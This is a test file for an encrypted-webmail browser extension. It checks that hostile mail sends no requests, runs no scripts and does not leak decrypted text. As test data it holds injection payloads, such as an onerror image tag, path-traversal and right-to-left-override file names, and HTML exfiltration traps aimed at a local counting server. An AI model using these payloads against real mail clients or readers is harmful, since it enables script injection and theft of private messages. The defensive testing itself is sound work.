// SPDX-License-Identifier: Apache-2.0
// What a sender, or a provider that rearranges mail, can put into a letter. Opening it asks nobody
// for anything: no request, no connection; nothing in it runs, and what it says stays what it is.
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { vectors } from './fixtures/hostile-html.mjs';
import { browserNames } from './support/browsers.mjs';
import { CountingServer } from './support/counting-server.mjs';
import { forgeMail, seal } from './support/forged-mail.mjs';
import { withHost } from './support/host-client.mjs';
import { hostileSceneFor } from './support/hostile-scene.mjs';
import { asText } from './support/hostile-webmail.mjs';
import { sealWithHost } from './support/sealed-mail.mjs';
import { words } from './support/words.mjs';

const canary = 'MailCanaryB4kR9w';

const multipart = (parts) => ['--b', ...parts.flatMap(([type, content, more = []]) =>
  [`Content-Type: ${type}`, ...more, '', content, '--b']).slice(0, -1), '--b--'].join('\n');

for (const name of browserNames) {
  describe(name, () => {
    const holder = hostileSceneFor(name);
    const counter = new CountingServer();
    let recipient;

    before(async () => {
      await counter.start();
      const { scene } = holder;
      const { accounts } = await withHost(scene.bob.profile, (host) => host.call('account.list'));
      recipient = accounts[0].recipients.at(-1); // the classical one: age before 1.3 knows no other
      await scene.unlock();
    });
    after(() => counter.stop());

    const forge = (mail) => forgeMail(recipient, { to: holder.scene.bob.address, ...mail });

    /** Opens a letter; `look(page, frame, shown)` sees what the reader makes of it. */
    async function opened(body, look, options) {
      const { scene } = holder;
      const page = await scene.open(scene.webmail.letter(body, options));
      const frame = await scene.bob.waitForReader(page);
      await look(page, frame, await scene.bob.readFrame(frame));
      await page.close();
    }

    test('the vectors work: a page that shows them is noticed', async () => {
      const { scene } = holder;
      counter.forget();
      const page = await scene.open(scene.webmail.letter(vectors(counter.host).filter((one) => !/refresh|form/.test(one)).join('\n')));
      await page.waitFor(() => document.readyState === 'complete');
      assert(counter.requests.length > 15, `${counter.requests}`);
      assert(counter.connections > 0);
      await page.close();
    });

    test('HTML and links in a mail ask nobody for anything', async () => {
      const html = vectors(counter.host).join('\n');
      const plain = `${canary} http://${counter.host}/text <img src="http://${counter.host}/tag">`;
      const letter = forge({ type: 'multipart/alternative; boundary=b',
        body: multipart([['text/plain; charset=utf-8', plain], ['text/html; charset=utf-8', html]]) });
      counter.forget();
      await opened(asText(letter), async (_, frame, shown) => {
        assert.equal(shown.text, plain, 'text is text');
        assert.equal(shown.verdict, words('verdict_unsigned', ''), 'Mallory is nobody');
        assert.equal(await frame.count('.text *, a[href], img, iframe, object, embed, video, audio, form'), 0);
      });
      const alone = forge({ type: 'text/html; charset=utf-8', body: html });
      await opened(asText(alone), async (_, frame) => {
        assert.match(await frame.text(), new RegExp(words('only_html').slice(0, 20)));
      });
      assert.deepEqual([counter.connections, counter.requests], [0, []]);
    });

    test('a payload that is no mail is shown as text, whatever it holds', async () => {
      counter.forget();
      const payload = `<html>${vectors(counter.host).join('\n')}</html>`;
      await opened(asText(seal(recipient, payload)), async (_, frame, shown) => {
        assert.equal(shown.text, payload);
        assert.equal(await frame.count('.text *'), 0);
      });
      assert.deepEqual([counter.connections, counter.requests], [0, []]);
    });

    test('an HTML part is saved as a file with a harmless name, and opened nowhere', async () => {
      const { scene } = holder;
      const { browser } = scene.bob;
      const letter = forge({ type: 'text/html; charset=utf-8', body: vectors(counter.host).join('\n') });
      counter.forget();
      await opened(asText(letter), async (page, frame) => {
        const before = (await browser.pages()).length;
        const saved = page.page?.waitForEvent('download');
        await frame.evaluate((text) => {
          [...document.querySelectorAll('button')].find((button) => button.textContent === text).id = 'save';
        }, words('save_html'));
        await frame.click('#save');
        if (saved) assert.equal((await saved).suggestedFilename(), 'forged.html');
        const urls = (await browser.pages()).map((one) => one.url());
        assert.equal(urls.length, before, `${urls}`);
        assert(!urls.some((url) => url.startsWith('blob:')));
      });
      assert.deepEqual([counter.connections, counter.requests], [0, []]);
    });

    test('a file that is a page or a drawing is shown as its text, or not at all', async () => {
      const { scene } = holder;
      const content = `<script>parent.ran = true</script>${vectors(counter.host).join('\n')}`;
      for (const [type, previews] of [['text/html', 1], ['image/svg+xml', 0], ['application/pdf', 0]]) {
        const { armored, files: [file] } = await sealWithHost(scene, [{ name: `file.${type.slice(-3)}`, content, type }]);
        counter.forget();
        await opened(asText(armored), async (page, frame) => {
          await frame.waitFor((label) => [...document.querySelectorAll('.attachments button')].some(({ textContent }) => textContent === label), [words('save')]);
          await frame.waitFor(() => [...document.querySelectorAll('.attachments button')].every(({ ariaDisabled }) => ariaDisabled === 'false'));
          assert.equal(await frame.count('.attachments button') - 1, previews, type);
          if (previews === 0) return;
          await frame.click('.attachments button');
          await frame.waitForSelector('iframe[sandbox=""]');
          const preview = await page.waitForFrame('blob:');
          assert.equal((await preview.text()).trim(), content.trim());
          assert.equal(await preview.count('script, img, a[href]'), 0);
          assert.equal(await frame.evaluate(() => globalThis.ran), undefined);
        }, { beside: scene.webmail.file(file.name, file.content) });
        assert.deepEqual([counter.connections, counter.requests], [0, []], type);
      }
    });

    test('file names are text, on one line, and none comes with a direction of its own', async () => {
      const names = ['../../.bashrc', '<img src=x onerror=alert(1)>.svg', 'a"b\'c.html', 'photo.jpg.exe', 'x'.repeat(255)];
      const field = (fileName, at) => {
        const encoded = encodeURIComponent(fileName).replace(/[!'()*]/g, (sign) => `%${sign.charCodeAt(0).toString(16).toUpperCase()}`);
        return `Letterlock-Attachment: v1; file="letterlock-0000000${at}.age";\n name="${encoded}";\n type="text/html"; size=5;\n b2=${'A'.repeat(43)}=`;
      };
      const letter = (all) => forge({ type: 'text/plain', body: 'files', fields: all.map(field) });
      await opened(asText(letter(names)), async (_, frame) => {
        const shown = await frame.text('#main');
        for (const fileName of names) assert(shown.includes(fileName), fileName);
        assert.equal(await frame.count('#main img:not(.icon), #main script'), 0);
      });
      const { scene } = holder;
      const page = await scene.open(scene.webmail.letter(asText(letter(['cod\u202Eexe.gpj']))));
      const refused = await scene.bob.notice(await scene.bob.waitForReader(page));
      assert.match(refused, new RegExp(words('error_malformed_message').slice(0, 20)));
      await page.close();
    });

    test('what stands around the armor never gets hold of the text', async () => {
      const { scene } = holder;
      const armor = await scene.encrypt(canary);
      const traps = [
        `<a href="http://${counter.host}/?">${asText(armor)}</a>`,
        `<form action="http://${counter.host}/"><button name="q">${asText(armor)}</button></form>`,
        `<style>pre { background: url(http://${counter.host}/?</style>${asText(armor)}<p>)}</p>`,
        `<div title='http://${counter.host}/?'>${asText(armor)}</div><p>'</p>`,
        `<base href="http://${counter.host}/">${asText(armor)}`,
      ];
      counter.forget();
      for (const trap of traps) {
        await opened(trap, async (page, frame, shown) => {
          assert.equal(shown.text, canary);
          assert.equal((await frame.text()).includes(counter.host), false);
          assert.equal(await page.evaluate((text) => document.documentElement.outerHTML.includes(text), canary), false);
        });
      }
      assert(!counter.requests.some((request) => request.includes(canary)));
    });

    /** Presses Reply; what stands in the editor then. */
    async function quoted(frame) {
      const { bob } = holder.scene;
      await frame.waitFor(() => document.querySelector('footer button').ariaDisabled === 'false');
      await frame.click('footer button');
      const editor = await bob.waitForEditor();
      const text = await editor.waitFor(() => document.querySelector('#text').value);
      assert.equal(text.includes(canary), false);
      editor.answerDialogs(true);
      await editor.close();
      return text;
    }

    test('armor hidden in a letter is not opened, or in a frame of its own', async () => {
      const { scene } = holder;
      const [shown, hidden] = [await scene.encrypt('what was asked'), await scene.encrypt(canary)];
      const hiding = ['display:none', 'visibility:hidden;position:absolute;left:-9999px', 'content-visibility:hidden;position:absolute;top:-9999px'];
      scene.forgetCalls();
      for (const style of hiding) {
        await opened(`${asText(shown)}<div style="${style}">${asText(hidden)}</div>`, async (_, frame, read) => {
          assert.equal(read.text, 'what was asked');
          assert.equal((await frame.text()).includes(canary), false);
          if (style === hiding[0]) assert.match(await quoted(frame), /> what was asked\n$/);
        });
      }
      const asked = scene.calls('message.decrypt').map(({ params }) => params.armored);
      assert(!asked.some((armored) => armored.includes(hidden.split('\n')[4])), 'never decrypted');
    });

    test('a message moved into another mail is said to be another’s', async () => {
      const { scene } = holder;
      const armor = asText(await scene.encrypt('moved'));
      await opened(armor, (_, __, shown) => {
        assert.deepEqual(shown.cautions, [words('difference_from')]);
        assert.match(shown.from, /alice@example\.test/);
      }, { from: 'eve@example.test', subject: 'Another subject' });
      await opened(armor, (_, __, shown) => { assert.deepEqual(shown.cautions, []); });
    });

    test('text beside the armor is outside, and is said to be', async () => {
      const { scene } = holder;
      const armor = asText(await scene.encrypt('inside'));
      await opened(`<p>Please pay to this account instead.</p>${armor}`, (_, __, shown) => {
        assert.equal(shown.text, 'inside');
        assert.deepEqual(shown.cautions, [words('surrounded')]);
      });
    });

    test('pages of ours run nothing foreign and ask nobody', async () => {
      const { scene } = holder;
      counter.forget();
      for (const path of ['options/options.html', 'editor/editor.html#tab=0&frame=0&compose=x', 'reader/window.html#nonce=x&tab=0']) {
        const page = await scene.bob.browser.openExtensionPage(path);
        const worked = await page.evaluate(async (host) => {
          const tries = {
            inline: () => {
              const script = document.createElement('script');
              script.append('globalThis.inlineRan = true');
              document.body.append(script);
              return globalThis.inlineRan === true;
            },
            markup: () => {
              const made = document.createElement('div');
              made.innerHTML = '<b>x</b>';
              return made.childElementCount > 0;
            },
            fetch: () => fetch(`http://${host}/`, { mode: 'no-cors' }).then(() => true),
            picture: () => new Promise((resolve, reject) => {
              Object.assign(new Image(), { onload: () => resolve(true), onerror: reject, src: `http://${host}/x.png` });
            }),
          };
          const results = await Promise.all(Object.entries(tries).map(async ([what, attempt]) => {
            try { return (await attempt()) && what; } catch { return false; }
          }));
          return results.filter(Boolean);
        }, counter.host);
        assert.deepEqual(worked, [], path);
        await page.close();
      }
      assert.deepEqual([counter.connections, counter.requests], [0, []]);
    });
  });
}
